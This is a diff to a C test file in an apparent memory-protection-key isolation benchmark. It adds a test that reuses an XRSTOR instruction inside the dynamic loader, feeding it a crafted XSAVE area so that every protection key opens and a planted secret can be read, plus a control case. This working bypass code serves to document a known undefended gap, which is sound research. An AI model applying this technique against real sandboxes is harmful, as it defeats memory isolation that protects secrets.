@@ -6,9 +6,16 @@
  * statically linked copy of the same attack runs in tests/vm (mpk-native
  * here, mpk-vm under QEMU TCG).  Each case runs in a fresh child, whose C
  * library pages are as the loader mapped them.  Without PKU every case
- * says SKIP with the probe's reason. */
+ * says SKIP with the probe's reason.
+ *
+ * What the closing leaves is shown too: a jump into the dynamic loader's
+ * lazy-binding code at its XRSTOR, with PKRU selected and an XSAVE area
+ * of the attacker's, opens every key (not defended; its control holds). */
+#include <cpuid.h>
+#include <setjmp.h>
 #include <signal.h>
 #include <stdint.h>
+#include <stdlib.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/mman.h>
@@ -16,6 +23,7 @@
 #include <time.h>
 #include <unistd.h>
 
+#include "isobench/inspect.h"
 #include "isobench/isolation.h"
 #include "isobench/mechanism.h"
 #include "mpk.h"
@@ -95,6 +103,104 @@ static void t_page_still_works(void)
     CHECK_EQ_LONG(pkey_get(1), PKEY_DISABLE_ACCESS);  /* PKRU closed: key 1 access-disabled */
 }
 
+/* mpk_xrstor_x86.S. */
+void xrstor_jump(const void *site, void *frame, uint64_t *resume, uint64_t mask);
+
+static sigjmp_buf xr_jmp;
+static volatile sig_atomic_t xr_code;
+
+static void on_xr_fault(int sig, siginfo_t *si, void *uc)
+{
+    (void)sig;
+    (void)uc;
+    xr_code = si->si_code;
+    siglongjmp(xr_jmp, 1);
+}
+
+/* The dynamic loader's `xorl %edx,%edx; xrstor 0x40(%rsp)`, as inspect
+ * finds it (a stray XRSTOR without a symbol in ld-linux), or NULL. */
+static const unsigned char *loader_xrstor(void)
+{
+    static const unsigned char form[] = {0x31, 0xd2, 0x0f, 0xae, 0x6c, 0x24, 0x40};
+    struct isob_inspect in;
+    char why[200];
+    const unsigned char *found = NULL;
+    if (isob_inspect_load(getpid(), &in, why, sizeof why) != 0)
+        return NULL;
+    if (isob_inspect_find(&in) == 0)
+        for (size_t i = 0; i < in.nsites && !found; i++) {
+            const struct isob_site *st = &in.sites[i];
+            const struct isob_xmap *x = &in.maps[st->map];
+            if (st->kind == ISOB_INSN_XRSTOR && strstr(x->path, "ld-linux") && st->addr >= x->start + 2 &&
+                memcmp(x->bytes + (st->addr - x->start) - 2, form, sizeof form) == 0)
+                found = (const unsigned char *)st->addr;
+        }
+    isob_inspect_free(&in);
+    return found;
+}
+
+/* A jump to the loader's XRSTOR with EDX:EAX = mask and an XSAVE area of
+ * the attacker's whose PKRU is 0, then a load of the secret: 1 read it,
+ * 0 SEGV_PKUERR. */
+static int xrstor_attack(uint64_t mask)
+{
+    const struct isob_mechanism *m = need("mpk");
+    unsigned a = 0, b = 0, c = 0, d = 0;
+    if (!__get_cpuid_count(0xd, 9, &a, &b, &c, &d) || a != 8)
+        SKIP("CPUID leaf 0xD has no PKRU component");
+    const unsigned char *site = loader_xrstor();
+    if (!site)
+        SKIP("no `xor %%edx,%%edx; xrstor 0x40(%%rsp)` in the dynamic loader here");
+    isob_mpk_test_leave_strays = 0;
+    struct isob_comp_spec spec;
+    isob_spec_defaults(&spec);
+    struct isob_comp *comp = NULL;
+    CHECK_EQ_LONG(isob_comp_create(m, &spec, &comp), 0);
+    struct isob_msg *msg = comp->mech->shared(comp);
+    msg->arg[0] = (int64_t)ISOB_SECRET;
+    CHECK_EQ_LONG(isob_call(comp, ISOB_ENTRY_SECRET_PLANT), 0);
+    volatile uint64_t *secret = (volatile uint64_t *)(uintptr_t)msg->arg[1];
+    /* The XSAVE area, standard form, 64-byte aligned at frame + 0x40:
+     * XSTATE_BV selects PKRU alone, PKRU (at CPUID's offset) is 0, MXCSR
+     * its default, so that the control's components restore sanely. */
+    unsigned char *buf = aligned_alloc(64, 16384);
+    CHECK(buf != NULL);
+    memset(buf, 0, 16384);
+    unsigned char *area = buf + 64, *frame = area - 0x40;
+    *(uint32_t *)(void *)(area + 24) = 0x1f80;
+    *(uint64_t *)(void *)(area + 512) = 1ull << 9;
+    *(uint32_t *)(void *)(area + b) = 0;
+    uint64_t resume[8] = {0};
+    printf("# jump to the loader's XRSTOR at %p, EDX:EAX = %#llx\n", (const void *)site,
+           (unsigned long long)mask);
+    xrstor_jump(site, frame, resume, mask);
+    struct sigaction sa;
+    memset(&sa, 0, sizeof sa);
+    sa.sa_sigaction = on_xr_fault;
+    sa.sa_flags = SA_SIGINFO;
+    sigemptyset(&sa.sa_mask);
+    sigaction(SIGSEGV, &sa, NULL);
+    if (sigsetjmp(xr_jmp, 1) == 0) {
+        uint64_t v = *secret;
+        printf("# back, key 1's rights in PKRU %d: the load read %s\n", pkey_get(1),
+               v == ISOB_SECRET ? "the secret" : "other data");
+        return v == ISOB_SECRET;
+    }
+    printf("# the load faulted: si_code %d\n", (int)xr_code);
+    CHECK_EQ_LONG(xr_code, SEGV_PKUERR);
+    return 0;
+}
+
+/* Not defended, shown: the loader's XRSTOR, reached by a jump into its
+ * middle with PKRU selected (bit 9), opens every key.  The mpk mechanisms
+ * leave it (closing it would break lazy binding); the cell's condition and
+ * `isobench list` say so.  This test passes when the attack succeeds. */
+static void t_loader_xrstor_not_defended(void) { CHECK_EQ_LONG(xrstor_attack(1ull << 9), 1); }
+
+/* Control: the same jump with the loader's own mask (0xee, no PKRU) leaves
+ * the key closed: the load meets SEGV_PKUERR. */
+static void t_loader_xrstor_control(void) { CHECK_EQ_LONG(xrstor_attack(0xee), 0); }
+
 static double now_us(void)
 {
     struct timespec ts;
@@ -138,6 +244,8 @@ int main(void)
     TAP_CASE(t_mpk_unclosed_leaks);
     TAP_CASE(t_mpk_bridge_unclosed_leaks);
     TAP_CASE(t_page_still_works);
+    TAP_CASE(t_loader_xrstor_not_defended);
+    TAP_CASE(t_loader_xrstor_control);
     TAP_CASE(t_create_cost);
     return tap_done();
 }
